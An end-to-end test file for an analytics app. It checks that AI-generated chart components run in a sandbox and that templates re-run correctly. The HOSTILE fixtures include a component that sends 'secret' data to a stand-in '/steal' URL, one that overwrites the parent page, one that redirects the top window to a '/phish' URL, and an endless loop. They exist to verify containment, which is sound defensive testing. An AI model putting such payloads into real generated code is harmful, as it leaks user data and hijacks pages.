import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import type { AppPage } from './pages/app-page.js';
import { hasChromium } from './support/launch-browser.js';
import { useAppInNewThread } from './support/open-app.js';

/** Generated components that misbehave; each must end as a readable error with the table, the page untouched. */
const HOSTILE = {
  network: `import React from 'react';
export default function Viz() {
  React.useEffect(() => { fetch('http://127.0.0.1:9/steal?data=secret').catch(() => undefined); }, []);
  return <div>harmless looking</div>;
}`,
  loop: `export default function Viz() { while (true) {} }`,
  parent: `export default function Viz() {
  parent.document.body.innerHTML = 'owned';
  return <div>never</div>;
}`,
  navigation: `import React from 'react';
export default function Viz() {
  React.useEffect(() => { window.top.location.href = 'http://127.0.0.1:9/phish'; }, []);
  return <div>moving on</div>;
}`,
};

const EXPECTED_ERROR: Record<keyof typeof HOSTILE, RegExp> = {
  network: /tried to reach "http:\/\/127\.0\.0\.1:9/,
  loop: /stopped responding/,
  parent: /outside its sandbox/,
  navigation: /outside its sandbox/,
};

describe.skipIf(!hasChromium)('templates and generated chart code', () => {
  let page: Page;
  let app: AppPage;

  const createTemplate = async (title: string, uiCode: string | null, sql = "SELECT 'android' AS platform, 0.25 AS failure_rate UNION ALL SELECT 'ios', 0.1") => {
    const response = await fetch(new URL('/api/templates', inject('insightxUrl')), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ title, prompt: title, generated_sql: sql, ui_code: uiCode, parameters: {}, data_source: 'sample' }),
    });
    expect(response.ok).toBe(true);
  };

  const openTemplateAndRerun = async (title: string) => {
    await app.openTemplates();
    await page.getByTestId('template-item').filter({ hasText: title }).click();
    await page.getByRole('button', { name: 'Re-run on fresh data' }).click();
  };

  useAppInNewThread((opened) => {
    ({ page, app } = opened);
  });

  it('saves an answer as a template, lists it, and re-runs it on fresh data', async () => {
    await app.ask("What's the failure rate for Android users?");
    await app.waitForAnswer();
    const saved = page.waitForResponse((response) => new URL(response.url()).pathname === '/api/templates' && response.request().method() === 'POST');
    await page.getByRole('button', { name: 'Save as template' }).last().click();
    const body = JSON.parse((await saved).request().postData() ?? '{}') as Record<string, unknown>;
    expect(body.prompt).toBe("What's the failure rate for Android users?");
    expect(String(body.generated_sql)).toMatch(/SELECT/i);
    expect(String(body.ui_code)).toContain('export default function Viz');

    const rerun = page.waitForResponse((response) => new URL(response.url()).pathname === '/api/tools/sql');
    await openTemplateAndRerun("What's the failure rate for Android users?");
    expect((await rerun).ok()).toBe(true);
    const dialog = page.getByRole('dialog', { name: 'Templates' });
    await dialog.getByText(/Fresh result/).waitFor();
    await dialog.locator('[data-testid="chart-status"][data-state="rendered"]').waitFor({ timeout: 30_000 });
    await app.screenshot('11-template-rerun');
    await page.keyboard.press('Escape');
  });

  const checkHostile = async (name: string, code: string) => {
    await createTemplate(`hostile ${name}`, code);
    const outgoing: string[] = [];
    page.on('request', (request) => outgoing.push(request.url()));
    await openTemplateAndRerun(`hostile ${name}`);
    const dialog = page.getByRole('dialog', { name: 'Templates' });
    const error = dialog.getByTestId('chart-error');
    await error.waitFor({ timeout: 30_000 });
    expect(await error.innerText()).toMatch(EXPECTED_ERROR[name as keyof typeof HOSTILE]);
    // The table stands in for the chart, and the page itself still works.
    expect(await dialog.getByTestId('results-table').getByRole('row').count()).toBeGreaterThan(1);
    expect(outgoing.filter((url) => url.includes('127.0.0.1:9'))).toEqual([]);
    expect(await page.locator('body').innerText()).not.toContain('owned');
    expect(page.url().startsWith(inject('insightxUrl'))).toBe(true);
    await app.screenshot(`12-hostile-${name}`);
    // The answer's own chart in the workspace, behind the dialog, still stands (restarted in a
    // fresh frame if it shared the looping frame's process).
    await expect.poll(() => page.locator('aside [data-testid="chart-status"]').getAttribute('data-state'), { timeout: 30_000 }).toBe('rendered');
    await page.keyboard.press('Escape');
    await page.getByLabel('Search threads').fill('x');
    expect(await page.getByLabel('Search threads').inputValue()).toBe('x');
    await page.getByLabel('Search threads').fill('');
  };

  // The endless loop runs last: Chromium keeps sandboxed frames of one site in one renderer
  // process, and under load a new frame can land in the still-spinning process and never start.
  it.each(Object.entries(HOSTILE).filter(([name]) => name !== 'loop'))('contains a component that misbehaves: %s', checkHostile);

  it('shows a large result in a virtual table that sorts', async () => {
    await createTemplate('ten thousand rows', null, 'SELECT i AS n, i * 2 AS doubled FROM range(10000) t(i)');
    await openTemplateAndRerun('ten thousand rows');
    const dialog = page.getByRole('dialog', { name: 'Templates' });
    const table = dialog.getByTestId('results-table');
    await table.waitFor();
    expect(await table.getAttribute('aria-rowcount')).toBe('10001');
    // Only the visible rows are in the page, whatever the size of the result.
    expect(await table.getByRole('row').count()).toBeLessThan(80);
    await table.getByRole('button', { name: 'n', exact: true }).click();
    await table.getByRole('button', { name: 'n', exact: true }).click();
    expect(await table.getByRole('columnheader', { name: 'n' }).getAttribute('aria-sort')).toBe('descending');
    expect(await table.getByRole('row').nth(1).getByRole('cell').first().innerText()).toBe('9,999');
    await app.screenshot('13-large-result');
    await page.keyboard.press('Escape');
  });

  it('offers the params a chart declares and re-renders with them, without a request', async () => {
    const code = `export const params = { topN: { type: 'number', default: 1, min: 1, max: 2, label: 'Top N' } };
export default function Viz({ data, params }) {
  return <ol>{data.slice(0, params.topN).map((row) => <li key={row.platform}>{row.platform}</li>)}</ol>;
}`;
    await createTemplate('declared params', code);
    await openTemplateAndRerun('declared params');
    const dialog = page.getByRole('dialog', { name: 'Templates' });
    await dialog.locator('[data-testid="chart-status"][data-state="rendered"]').waitFor({ timeout: 30_000 });
    const frame = page.frameLocator('dialog [data-testid="viz-frame"]');
    await expect.poll(() => frame.locator('li').count()).toBe(1);
    const before = app.requests.length;
    await dialog.getByLabel('Top N').fill('2');
    await expect.poll(() => frame.locator('li').count(), { timeout: 10_000 }).toBe(2);
    expect(app.requests.slice(before).filter((request) => new URL(request.url()).pathname.startsWith('/api/'))).toEqual([]);
    await page.keyboard.press('Escape');
  });
  it('contains a component that misbehaves: loop', () => checkHostile('loop', HOSTILE.loop));
});
